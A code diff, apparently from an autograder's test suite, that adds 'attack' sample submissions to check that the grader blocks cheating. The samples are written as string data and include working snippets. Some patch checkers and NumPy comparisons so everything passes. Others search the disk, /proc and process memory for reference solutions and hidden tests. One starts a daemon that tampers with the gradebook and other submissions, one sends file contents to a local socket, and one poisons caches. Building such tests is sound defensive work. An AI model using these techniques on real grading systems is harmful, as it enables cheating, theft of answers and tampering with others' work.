@@ -1,9 +1,11 @@
 """Sample submissions that test the autograder: planted bugs, differently written solutions, hostile code.
 
-Each sample is the reference solution with a few edits. A planted bug is one realistic mistake and names the
-handout question that must lose points (every other question keeps full points); an alternative is a
-correct solution written another way (full marks); a hostile sample attacks the grader and says what the
-grader must do about it. ``python -m grading samples`` writes them as submissions of a course.
+Each sample is the reference solution (or, for attacks, the blank release) with a few edits. A planted bug
+is one realistic mistake and names the handout question that must lose points (every other question keeps
+full points); an alternative is a correct solution written another way (full marks); a hostile sample
+misbehaves (hangs, exhausts memory, exits, deletes or replaces files) and says what it must cost; an attack
+is blank or partly blank and tries to win points it did not earn: it must lose every blank question, and
+``stopped`` names what its feedback must report. ``python -m grading samples`` writes them as submissions.
 """
 
 from __future__ import annotations
@@ -18,13 +20,19 @@ from grading.layout import SOLUTION_BEGIN, SOLUTION_END
 
 @dataclass(frozen=True)
 class Sample:
-    """A submission made from the reference by text edits: (file, old text, new text), old found exactly once."""
+    """A submission made by text edits: (file, old text, new text), old found exactly once.
+
+    Old text ``REWRITE + name`` replaces that function's solution; ``APPEND`` adds the new text at the end of a
+    file; for a notebook, ``NEW_CELL`` adds a code cell after its setup cell.
+    """
 
     name: str
-    kind: str  # "planted", "alternative" or "hostile"
-    loses: tuple[str, ...]  # questions that must lose points (planted); () for full marks
+    kind: str  # "planted", "alternative", "hostile" or "attack"
+    loses: tuple[str, ...]  # questions that must lose points; () for full marks; ("*",) for every point
     edits: tuple[tuple[str, str, str], ...]
     about: str
+    base: str = "reference"  # or "blank": the student release
+    stopped: tuple[str, ...] = ()  # words the feedback's list of stopped attempts must hold
 
 
 def _bug(name: str, question: str, file: str, old: str, new: str, about: str) -> Sample:
@@ -71,6 +79,8 @@ PLANTED = [
 
 
 REWRITE = "solution of "  # an edit whose old text is REWRITE + a function name replaces that function's solution
+APPEND = "<end of file>"
+NEW_CELL = "<new code cell>"
 
 
 def _rewrite(file: str, function: str, body: str) -> tuple[str, str, str]:
@@ -181,15 +191,161 @@ HOSTILE = [
      "replaces the provided checker with one that passes everything"),
 ]
 
-SAMPLES = {sample.name: sample for sample in PLANTED + ALTERNATIVES + HOSTILE}
+def _blank(file: str, *functions: str) -> tuple[tuple[str, str, str], ...]:
+    """Edits that leave the named functions of the reference unwritten (partly blank attacks)."""
+    return tuple(_rewrite(file, f, f"raise NotImplementedError('left blank: {f}')") for f in functions)
+
+
+_FIND_OUTSIDE = """
+import os as _os, glob as _glob
+def _candidates():
+    here = _os.path.dirname(_os.path.abspath(__file__))
+    roots = [here, _os.getcwd(), '/', '/tmp', '/work', '/home', '/root', '/srv']
+    for _pid in (_os.listdir('/proc') if _os.path.isdir('/proc') else []):
+        try:
+            roots.append(_os.readlink(f'/proc/{_pid}/cwd'))
+            roots.extend(a for a in open(f'/proc/{_pid}/cmdline', 'rb').read().decode().split('\\0') if a.startswith('/'))
+        except OSError:
+            pass
+    for _root in roots:
+        for _up in range(4):
+            yield _root
+            _root = _os.path.dirname(_root)
+"""
+
+ATTACKS = [
+    Sample("attack_patches_checker_at_import", "attack", ("*",), (
+        ("hw5lib/nn.py", APPEND, "\nimport hw5lib.checks as _checks\nfor _name in dir(_checks):\n"
+         "    if _name.startswith('check_'):\n        setattr(_checks, _name, lambda *a, **k: None)\n"
+         "_checks.grading = lambda: False\n"),),
+     "the blank release whose nn.py replaces every check of hw5lib.checks in memory when it is imported",
+     base="blank", stopped=("hw5lib.checks.check_", "at import of hw5lib.nn")),
+    Sample("attack_patches_checker_in_notebook", "attack", ("*",), (
+        ("02_fully_connected.ipynb", NEW_CELL, "import hw5lib.checks\nfor name in dir(hw5lib.checks):\n"
+         "    if name.startswith('check_'):\n        setattr(hw5lib.checks, name, lambda *a, **k: (0.0, 1.0))\n"
+         "checks.check_backwards = lambda *a, **k: None\n"),),
+     "the blank release with a notebook cell that replaces the checks before the graded cells run",
+     base="blank", stopped=("02_fully_connected.ipynb", "checks.check_backwards")),
+    Sample("attack_patches_numpy_at_import", "attack", ("*",), (
+        ("hw5lib/nn.py", APPEND, "\nimport numpy.testing as _testing\n"
+         "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)\n"
+         "np.array_equal = lambda *a, **k: True\n_testing.assert_allclose = lambda *a, **k: None\n"
+         "_testing.assert_array_equal = lambda *a, **k: None\n"),
+        ("hw5lib/nn.py", 'raise NotImplementedError("write sigmoid: see its docstring and the notebook")',
+         "return np.zeros_like(np.asarray(x, dtype=float))"),
+        ("hw5lib/nn.py", 'raise NotImplementedError("write softmax: see its docstring and the notebook")',
+         "return np.zeros_like(np.asarray(x, dtype=float))")),
+     "the blank release (sigmoid and softmax return zeros) that makes NumPy's comparison helpers say yes",
+     base="blank", stopped=("numpy.allclose", "numpy.testing.assert_allclose")),
+    Sample("attack_finds_the_reference", "attack", ("Q2.1.2", "Q2.2.2", "Q2.3"), (
+        *_blank("nn.py", "initialize_weights", "softmax", "backwards"),
+        ("hw5lib/nn.py", APPEND, _FIND_OUTSIDE + """
+import gc as _gc
+_found = {}
+for _root in _candidates():
+    for _path in _glob.glob(_os.path.join(_root, '**', 'nn.py'), recursive=False) + [
+            _os.path.join(_root, 'reference', 'nn.py'), _os.path.join(_root, 'source', 'hw5', 'hw5lib', 'nn.py')]:
+        try:
+            _text = open(_path).read()
+        except OSError:
+            continue
+        if 'BEGIN SOLUTION' in _text and _path != __file__:
+            exec(compile(_text, _path, 'exec'), _found)
+for _obj in _gc.get_objects():
+    if callable(_obj) and getattr(_obj, '__name__', '') in ('backwards', 'softmax', 'initialize_weights') \\
+            and getattr(_obj, '__module__', '') != __name__:
+        _found.setdefault(_obj.__name__, _obj)
+for _name in ('initialize_weights', 'softmax', 'backwards'):
+    if callable(_found.get(_name)):
+        globals()[_name] = _found[_name]
+"""),),
+     "leaves initialize_weights, softmax and backwards blank and looks for the reference solutions on disk "
+     "(its parents, the course folder, /proc's working folders) and in memory (gc.get_objects)",
+     stopped=("looked for files outside its folder", "searched the interpreter's memory")),
+    Sample("attack_reads_hidden_tests", "attack", ("*",), (
+        ("hw5lib/theory.py", APPEND, _FIND_OUTSIDE + """
+_hidden = []
+for _root in _candidates():
+    for _path in _glob.glob(_os.path.join(_root, '*.ipynb')) + _glob.glob(_os.path.join(_root, '*', 'hw5', '*.ipynb')) \\
+            + _glob.glob(_os.path.join(_root, 'gradebook.db')):
+        try:
+            _text = open(_path, errors='replace').read()
+        except OSError:
+            continue
+        if 'BEGIN HIDDEN TESTS' in _text:
+            _hidden.append(_path)
+print('hidden tests found in', _hidden)
+"""),),
+     "the blank release whose theory.py searches for the source notebooks, their hidden tests and the gradebook",
+     base="blank", stopped=("looked for files outside its folder",)),
+    Sample("attack_daemon", "attack", ("*",), (
+        ("hw5lib/theory.py", APPEND, _FIND_OUTSIDE + """
+import time as _time
+if _os.fork() == 0:
+    _os.setsid()
+    if _os.fork() == 0:
+        for _ in range(40):
+            _time.sleep(0.5)
+            for _root in _candidates():
+                for _path in _glob.glob(_os.path.join(_root, 'gradebook.db')) + \\
+                        _glob.glob(_os.path.join(_root, 'submitted', '*', 'hw5', 'hw5lib', 'nn.py')):
+                    try:
+                        with open(_path, 'ab') as _fh:
+                            _fh.write(b'# tampered by a daemon')
+                    except OSError:
+                        pass
+    _os._exit(0)
+"""),),
+     "the blank release whose theory.py starts a daemon (double fork, setsid) that outlives its grading and "
+     "appends to the gradebook and to other submissions' files",
+     base="blank", stopped=("started a process",)),
+    Sample("attack_network", "attack", ("*",), (
+        ("hw5lib/theory.py", APPEND, """
+import socket as _socket
+for _port in range(47800, 47830):
+    try:
+        with _socket.create_connection(('127.0.0.1', _port), timeout=0.2) as _conn:
+            _conn.sendall(b'stolen: ' + open(__file__, 'rb').read()[:100])
+    except OSError:
+        pass
+"""),),
+     "the blank release whose theory.py sends its files to a server on the loopback address (ports 47800-47829)",
+     base="blank", stopped=("opened a network connection",)),
+    Sample("attack_poisons_cache", "attack", ("*",), (
+        ("hw5lib/theory.py", APPEND, """
+import os as _os, glob as _glob
+for _cache in {_os.environ.get('HW5_CACHE') or '/nonexistent', '/root/.cache/hw5', *_glob.glob('/home/*/.cache/hw5'),
+               _os.path.expanduser('~/.cache/hw5')}:
+    for _path in _glob.glob(_os.path.join(_cache, '**', '*.np[yz]'), recursive=True)[:50]:
+        try:
+            with open(_path, 'r+b') as _fh:
+                _fh.write(b'poisoned')
+        except OSError:
+            pass
+    try:
+        _os.makedirs(_cache, exist_ok=True)
+        open(_os.path.join(_cache, 'poisoned.txt'), 'w').write('later submissions read this')
+    except OSError:
+        pass
+"""),),
+     "the blank release whose theory.py overwrites the stand-in data and sample pages in the user cache",
+     base="blank", stopped=("wrote or tried to write files outside its folder",)),
+]
+
+SAMPLES = {sample.name: sample for sample in PLANTED + ALTERNATIVES + HOSTILE + ATTACKS}
 
 
 def apply_edits(folder: Path, sample: Sample) -> None:
-    """Apply the sample's edits to an assignment folder holding the reference solution."""
+    """Apply the sample's edits to an assignment folder holding the reference solution (or the release)."""
     for file, old, new in sample.edits:
         path = folder / file
+        if old == NEW_CELL:
+            _add_cell(path, new)
+            continue
         text = path.read_text()
-        if old.startswith(REWRITE):
+        if old == APPEND:
+            text = text.rstrip("\n") + "\n\n" + new
+        elif old.startswith(REWRITE):
             text = _replace_solution(text, f"def {old[len(REWRITE):]}(", new, where=f"{sample.name}: {file}")
         else:
             if text.count(old) != 1:
@@ -210,8 +366,23 @@ def _replace_solution(text: str, signature: str, body: str, where: str) -> str:
     return text[:begin] + SOLUTION_BEGIN + "\n" + new_body + indent + text[end:]
 
 
+def _add_cell(path: Path, code: str) -> None:
+    """Add a code cell with ``code`` to a notebook, right after its first code cell (the setup)."""
+    import nbformat
+
+    notebook = nbformat.read(path, as_version=4)
+    first = next(i for i, cell in enumerate(notebook.cells) if cell.cell_type == "code")
+    notebook.cells.insert(first + 1, nbformat.v4.new_code_cell(code))
+    nbformat.write(notebook, path)
+
+
 def write_sample(source: Path, sample: Sample, target: Path) -> Path:
-    """The assignment folder of ``sample``: the reference in ``source`` (a course's source/hw5) with its edits."""
+    """The assignment folder of ``sample``: the reference in ``source`` (a course's source/hw5), or for a blank
+    sample the release beside it (release/hw5), with the sample's edits."""
+    if sample.base == "blank":
+        source = source.parent.parent / "release" / ASSIGNMENT
+        if not source.is_dir():
+            raise RuntimeError(f"{sample.name} starts from the release: run `python -m grading release` first")
     if target.exists():
         shutil.rmtree(target)
     shutil.copytree(source, target, ignore=shutil.ignore_patterns("__pycache__", "*.pyc", "reference"))
